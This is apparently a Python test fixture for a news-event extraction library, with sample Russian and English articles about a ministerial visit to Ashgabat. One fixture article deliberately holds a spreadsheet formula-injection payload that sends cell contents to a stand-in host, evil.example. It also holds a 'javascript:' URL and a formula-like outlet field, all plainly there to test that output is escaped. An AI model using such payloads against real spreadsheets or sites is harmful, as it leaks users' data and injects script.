"""A small record with two pages on one visit and a page that attacks whoever opens it in a spreadsheet."""

from elchi.records import (
    AgreementFound,
    Article,
    CommitmentFound,
    EventFound,
    FigureFound,
    Finding,
    OfficeFound,
    Participant,
    Place,
    Quote,
    When,
)

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Visit") | Визит;=1+1'
LONG = "Ж" * 10_000
VISITOR = Participant(
    name="Arman Sarsenov", as_written="Арман Сарсенов", office="Minister of Energy", country="KZ", role="visitor"
)
HOST = Participant(
    name="Batyr Ataev", as_written="Батыр Атаев", office="Minister of Energy", country="TM", role="host"
)


def article(key: str, title: str, body: str, **given: str) -> Article:
    fields = {
        "language": "ru",
        "published": "2024-03-05",
        "outlet": "vesti.example",
        "url": f"https://vesti.example/{key}",
    }
    return Article(id=key, title=title, text=f"{title}\n\n{body}", **(fields | given))


def quote(page: Article, words: str) -> list[Quote]:
    start = page.text.index(words)
    return [Quote(article=page.id, start=start, end=start + len(words), text=words)]


def told(page: Article, kind: type, number: int, words: str, **fields: object) -> Finding:
    given = {"id": f"{page.id}-{number}", "article": page.id, "rule": "hand", "quotes": quote(page, words)}
    return kind(**(given | fields))


def readings() -> list[tuple[Article, list[Finding]]]:
    first = article(
        "a1", "Визит министра", "Арман Сарсенов прибыл 4 марта. Подписан меморандум. Оборот упал на 12,5 %."
    )
    visit = {
        "type": "visit",
        "mode": "working",
        "when": When(edtf="2024-03-04", stated=True),
        "place": Place(city="Ashgabat", country="TM"),
        "participants": [VISITOR, HOST],
        "countries": ["KZ", "TM"],
        "plover": "CONSULT/visit",
        "cameo": "042",
    }
    paper = {
        "type": "memorandum",
        "title": "меморандум",
        "parties": ["KZ", "TM"],
        "status": "signed",
        "signed_on": "2024-03-04",
    }
    fall = {"measure": "trade turnover", "period": "2023", "countries": ["KZ", "TM"], "change": -12.5}
    second = article(
        "a2",
        "Minister Sarsenov in Ashgabat",
        "Arman Sarsenov arrived on 4 March. The sides agreed to open a school by 2026.",
        language="en",
        outlet="daily.example",
        url="https://daily.example/a2",
        published="2024-03-06",
    )
    promise = {"action": "open a school", "by": ["KZ", "TM"], "sector": "education-science", "due": "2026"}
    third = article("a3", ATTACK, LONG, url="javascript:alert(1)", published="2020-01-02", outlet="@SUM(A1)")
    bad = {"type": "statement", "countries": ["KZ", "UZ"], "plover": "SUPPORT", "cameo": "051"}
    office = {
        "person": "Arman Sarsenov",
        "office": "Minister of Energy",
        "country": "KZ",
        "as_written": "Арман Сарсенов",
    }
    return [
        (
            first,
            [
                told(first, EventFound, 1, "Арман Сарсенов прибыл 4 марта", **visit),
                told(first, AgreementFound, 2, "Подписан меморандум", **paper),
                told(first, FigureFound, 3, "Оборот упал на 12,5 %", **fall),
                told(first, OfficeFound, 4, "Арман Сарсенов", **office),
            ],
        ),
        (
            second,
            [
                told(second, EventFound, 1, "Arman Sarsenov arrived on 4 March", **visit),
                told(second, CommitmentFound, 2, "agreed to open a school by 2026", **promise),
            ],
        ),
        (third, [told(third, EventFound, 1, ATTACK, **bad)]),
    ]
